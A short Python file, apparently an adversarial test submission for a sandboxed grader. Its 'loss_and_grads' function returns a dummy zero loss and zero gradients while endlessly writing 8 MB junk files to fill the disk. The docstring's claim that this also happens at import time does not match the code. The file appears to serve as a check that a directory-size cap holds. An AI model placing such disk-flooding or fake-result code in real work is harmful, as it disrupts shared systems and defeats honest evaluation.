"""Attack on the disk: files of 8 MB each (under the per-file size limit) written into the work
directory without end, at import time and in the loss. Only a cap on the directory's total ends
it before the disk is full."""
import os

import numpy as np

_BLOCK = os.urandom(1 << 20)


def _flood():
    count = 0
    while True:
        with open(f"junk{count}.bin", "wb") as f:
            for _ in range(8):
                f.write(_BLOCK)
        count += 1


def loss_and_grads(params, X, y, reg):
    _flood()
    return 0.0, {name: np.zeros_like(value) for name, value in params.items()}
